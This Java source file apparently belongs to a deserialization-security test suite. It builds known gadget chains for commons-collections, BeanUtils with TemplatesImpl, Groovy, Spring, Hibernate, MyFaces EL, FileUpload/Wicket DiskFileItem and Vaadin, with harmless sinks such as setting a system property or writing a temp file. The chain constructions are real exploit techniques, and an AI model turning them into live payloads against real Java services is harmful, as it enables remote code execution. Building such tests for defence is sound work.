package dev.holdfast.gadgets;

import static java.nio.charset.StandardCharsets.US_ASCII;

import com.example.shop.Alarm;
import java.util.Comparator;
import java.util.HashMap;
import java.util.HashSet;
import java.util.List;
import java.util.Set;

/**
 * What the libraries are known for, written from what is publicly known of them. Each does something that shows and
 * harms nobody.
 */
final class LibraryPayloads {
    private static final String SHOP = "com.example.shop.";
    private static final String ALARM = SHOP + "Alarm";
    private static final String COLLECTIONS = "org.apache.commons.collections.";
    private static final String COLLECTIONS4 = "org.apache.commons.collections4.";
    private static final String BEAN_COMPARATOR = "org.apache.commons.beanutils.BeanComparator";
    private static final String GROOVY = "org.codehaus.groovy.runtime.";
    private static final String TYPE_WRAPPER = "org.springframework.core.SerializableTypeWrapper$";
    private static final String AOP = "org.springframework.aop.";
    private static final String HIBERNATE = "org.hibernate.";
    private static final String VAADIN = "com.vaadin.data.util.";

    private static final List<String> BEANUTILS =
            List.of("commons-beanutils-", "commons-collections-3", "commons-logging-");

    private static final List<String> SPRING_AOP =
            List.of("spring-core-6", "spring-jcl-", "spring-beans-", "spring-aop-", "aspectjweaver-");

    private static final List<String> HIBERNATE_ORM = List.of(
            "hibernate-core-jakarta-", "jakarta.persistence-api-", "jakarta.transaction-api-", "jboss-logging-");

    private static final List<String> MYFACES =
            List.of("myfaces-api-", "myfaces-impl-", "tomcat-embed-el-", "jakarta.servlet-api-");

    private static final List<String> OPENWEBBEANS = List.of(
            "openwebbeans-impl-",
            "openwebbeans-spi-",
            "jakarta.enterprise.cdi-api-",
            "jakarta.inject-api-",
            "commons-beanutils-",
            "commons-collections-3",
            "commons-logging-");

    private LibraryPayloads() {}

    static List<Payload> all() {
        return List.of(
                lazyMap(),
                Payload.ringing(
                        "commons-collections4 4.0, ChainedTransformer",
                        List.of("commons-collections4-"),
                        LibraryPayloads::chainedTransformer),
                invokerTransformer(),
                Payload.ringing("commons-beanutils 1.9.2, BeanComparator", BEANUTILS, LibraryPayloads::beanComparator)
                        .plain(),
                Payload.ringing(
                        "commons-beanutils 1.9.2, BeanComparator and the JDK's TemplatesImpl",
                        BEANUTILS,
                        LibraryPayloads::templates),
                Payload.ringing("groovy 2.4.3, ConvertedClosure", List.of("groovy-"), LibraryPayloads::closure),
                Payload.ringing(
                        "spring-core 4.1.4, MethodInvokeTypeProvider",
                        List.of("spring-core-4", "commons-logging-"),
                        LibraryPayloads::methodInvokeTypeProvider),
                Payload.ringing("spring-aop 6.2, JdkDynamicAopProxy", SPRING_AOP, LibraryPayloads::aopProxy),
                Payload.ringing(
                        "spring-beans 6.2, ObjectFactoryDelegatingInvocationHandler",
                        SPRING_AOP,
                        LibraryPayloads::objectFactory),
                Payload.ringing(
                        "hibernate-core 5.6, TypedValue and ComponentType", HIBERNATE_ORM, LibraryPayloads::typedValue),
                Payload.ringing(
                                "myfaces 3.0 with Tomcat's EL, ValueExpressionMethodExpression",
                                MYFACES,
                                LibraryPayloads::valueExpression)
                        .within(LibraryPayloads::facesContext),
                Payload.ringing(
                        "openwebbeans 4.0, InstanceInjectionPoint, with a stream of its own",
                        OPENWEBBEANS,
                        LibraryPayloads::ownStream),
                upload(
                        "wicket-util 6.23, DiskFileItem",
                        List.of("wicket-util-", "slf4j-api-"),
                        "org.apache.wicket.util.upload.DiskFileItem"),
                upload(
                        "commons-fileupload 1.3.1, DiskFileItem",
                        List.of("commons-fileupload-", "commons-io-"),
                        "org.apache.commons.fileupload.disk.DiskFileItem"),
                Payload.ringing(
                        "vaadin-server 7.7, PropertysetItem and NestedMethodProperty",
                        List.of("vaadin-server-", "vaadin-shared-"),
                        LibraryPayloads::propertysetItem));
    }

    /** {@code System.class}, then {@code getMethod("setProperty", …)}, then {@code invoke(null, …)}. */
    private static Object settingAProperty(Forge forge, String library) {
        return forge.make(
                library + "functors.ChainedTransformer",
                "iTransformers",
                forge.array(
                        library + "Transformer",
                        forge.make(library + "functors.ConstantTransformer", "iConstant", System.class),
                        invoker(
                                forge,
                                library,
                                "getMethod",
                                new Class<?>[] {String.class, Class[].class},
                                new Object[] {"setProperty", new Class<?>[] {String.class, String.class}}),
                        invoker(forge, library, "invoke", new Class<?>[] {Object.class, Object[].class}, new Object[] {
                            null, new Object[] {Alarm.RUNG, "yes"}
                        })));
    }

    private static Object invoker(
            Forge forge, String library, String method, Class<?>[] parameters, Object[] arguments) {
        return forge.make(
                library + "functors.InvokerTransformer",
                "iMethodName",
                method,
                "iParamTypes",
                parameters,
                "iArgs",
                arguments);
    }

    static Payload lazyMap() {
        return Payload.ringing(
                "commons-collections 3.2.1, LazyMap", List.of("commons-collections-3"), LibraryPayloads::lazyMap);
    }

    private static Object lazyMap(Forge forge) {
        Object map = forge.make(
                COLLECTIONS + "map.LazyMap", "map", new HashMap<>(), "factory", settingAProperty(forge, COLLECTIONS));
        return Later.hashing(forge.make(COLLECTIONS + "keyvalue.TiedMapEntry", "map", map, "key", "any"));
    }

    private static Object chainedTransformer(Forge forge) {
        Object comparator = forge.make(
                COLLECTIONS4 + "comparators.TransformingComparator",
                "decorated",
                forge.make(SHOP + "ByText"),
                "transformer",
                settingAProperty(forge, COLLECTIONS4));
        return Later.comparing(comparator, "a", "b");
    }

    static Payload invokerTransformer() {
        return Payload.ringing(
                        "commons-collections4 4.0, InvokerTransformer",
                        List.of("commons-collections4-"),
                        LibraryPayloads::invokerTransformer)
                .plain();
    }

    @SuppressWarnings("unchecked")
    private static Object invokerTransformer(Forge forge) {
        Object transformer = invoker(forge, COLLECTIONS4, "hashCode", null, null);
        Object comparator = forge.make(
                COLLECTIONS4 + "comparators.TransformingComparator",
                "decorated",
                forge.make(SHOP + "ByText"),
                "transformer",
                transformer);
        Object queue = Forge.queue((Comparator<Object>) comparator, forge.make(ALARM), forge.make(ALARM));
        Forge.set(transformer, "iMethodName", "getRung");
        return queue;
    }

    @SuppressWarnings("unchecked")
    private static Object beanComparator(Forge forge) {
        Object comparator = forge.make(BEAN_COMPARATOR, "comparator", forge.make(SHOP + "ByText"));
        Object queue = Forge.queue((Comparator<Object>) comparator, forge.make(ALARM), forge.make(ALARM));
        Forge.set(comparator, "property", "rung");
        return queue;
    }

    private static Object templates(Forge forge) {
        Object comparator =
                forge.make(BEAN_COMPARATOR, "comparator", forge.make(SHOP + "ByText"), "property", "outputProperties");
        return Later.comparing(comparator, JdkPayloads.templates(forge), JdkPayloads.templates(forge));
    }

    /** Comparing two strings is {@code System.setProperty} of them. */
    private static Object closure(Forge forge) {
        Object closure = forge.construct(GROOVY + "MethodClosure", System.class, "setProperty");
        Object handler = forge.construct(GROOVY + "ConvertedClosure", closure, "compare");
        return Later.comparing(forge.proxy(handler, Comparator.class), Alarm.RUNG, Alarm.RUNG);
    }

    /** The type of a field is a class, and a class has a method newInstance. */
    private static Object methodInvokeTypeProvider(Forge forge) {
        Object field = forge.make(
                TYPE_WRAPPER + "FieldTypeProvider",
                "fieldName",
                "started",
                "declaringClass",
                forge.type(SHOP + "Started$Holder"));
        return forge.make(TYPE_WRAPPER + "MethodInvokeTypeProvider", "provider", field, "methodName", "newInstance");
    }

    /** Any method of any object, as an advice around whatever is called. */
    private static Object advised(Forge forge) {
        Object support = forge.construct(AOP + "framework.AdvisedSupport");
        Forge.call(support, "setTarget", "target");
        Forge.call(support, "addAdvisor", forge.constant(AOP + "interceptor.ExposeInvocationInterceptor", "ADVISOR"));
        Object alarm = forge.make(ALARM);
        Object advice;
        try {
            advice = forge.construct(
                    AOP + "aspectj.AspectJMethodBeforeAdvice",
                    alarm.getClass().getMethod("getRung"),
                    forge.construct(AOP + "aspectj.AspectJExpressionPointcut"),
                    forge.construct(AOP + "aspectj.SingletonAspectInstanceFactory", alarm));
        } catch (NoSuchMethodException e) {
            throw new IllegalStateException(e);
        }
        Forge.call(support, "addAdvisor", forge.construct(AOP + "support.DefaultPointcutAdvisor", advice));
        return forge.construct(AOP + "framework.JdkDynamicAopProxy", support);
    }

    private static Object aopProxy(Forge forge) {
        return Later.comparing(forge.proxy(advised(forge), Comparator.class), "a", "b");
    }

    private static Object objectFactory(Forge forge) {
        Object supplier = forge.make(SHOP + "Supplying", "bean", forge.make(ALARM));
        Object factory = forge.proxy(supplier, forge.type("org.springframework.beans.factory.ObjectFactory"));
        Object handler = forge.construct(
                "org.springframework.beans.factory.support.AutowireUtils$ObjectFactoryDelegatingInvocationHandler",
                factory);
        return Later.comparing(forge.proxy(handler, Comparator.class), "a", "b");
    }

    private static Object typedValue(Forge forge) throws Exception {
        Object alarm = forge.make(ALARM);
        Object getter = forge.construct(
                HIBERNATE + "property.access.spi.GetterMethodImpl",
                alarm.getClass(),
                "rung",
                alarm.getClass().getMethod("getRung"));
        Object tuplizer = forge.make(
                HIBERNATE + "tuple.component.PojoComponentTuplizer",
                "getters",
                forge.array(HIBERNATE + "property.access.spi.Getter", getter));
        Object type = forge.make(
                HIBERNATE + "type.ComponentType",
                "componentTuplizer",
                tuplizer,
                "propertySpan",
                1,
                "propertyTypes",
                forge.array(HIBERNATE + "type.Type", new Object[] {null}));
        return Later.hashing(forge.make(HIBERNATE + "engine.spi.TypedValue", "type", type, "value", alarm));
    }

    private static Object valueExpression(Forge forge) {
        Object factory = forge.construct("org.apache.el.ExpressionFactoryImpl");
        Object expression = Forge.call(
                factory,
                "createValueExpression",
                forge.construct("jakarta.el.StandardELContext", factory),
                "${System.setProperty('" + Alarm.RUNG + "', 'yes')}",
                Object.class);
        return Later.hashing(
                forge.construct("org.apache.myfaces.view.facelets.el.ValueExpressionMethodExpression", expression));
    }

    /** That of the request. */
    private static void facesContext(Forge forge) {
        Object context = forge.make(
                "org.apache.myfaces.context.servlet.FacesContextImpl",
                "_elContext",
                forge.construct(
                        "jakarta.el.StandardELContext", forge.construct("org.apache.el.ExpressionFactoryImpl")));
        Forge.call(forge.type("jakarta.faces.context.FacesContext"), "setCurrentInstance", context);
    }

    /** In it is what another library is known for: who looks at the classes of the outer stream sees none of it. */
    private static Object ownStream(Forge forge) {
        return forge.make(
                "org.apache.webbeans.inject.instance.InstanceImpl$InstanceInjectionPoint",
                "qualifiers",
                Later.hashing(beanComparator(forge)));
    }

    /** A file of any content in any directory. */
    private static Payload upload(String title, List<String> libraries, String className) {
        Witness.OfFiles files = new Witness.OfFiles();
        return Payload.ringing(title, libraries, forge -> {
                    Object item = forge.make(
                            className,
                            "sizeThreshold",
                            1_000,
                            "repository",
                            files.directory().toFile());
                    Forge.call(Forge.call(item, "getOutputStream"), "write", "anything".getBytes(US_ASCII));
                    Forge.set(item, "sizeThreshold", 0);
                    return item;
                })
                .seenBy(files);
    }

    private static Object propertysetItem(Forge forge) {
        Object item = forge.construct(VAADIN + "PropertysetItem");
        Object property = forge.construct(VAADIN + "NestedMethodProperty", forge.make(ALARM), "rung");
        Forge.call(item, "addItemProperty", "any", property);
        Object label = forge.make(SHOP + "Label");
        Set<Object> labels = new HashSet<>(Set.of(label));
        Forge.set(label, "value", item);
        return labels;
    }
}
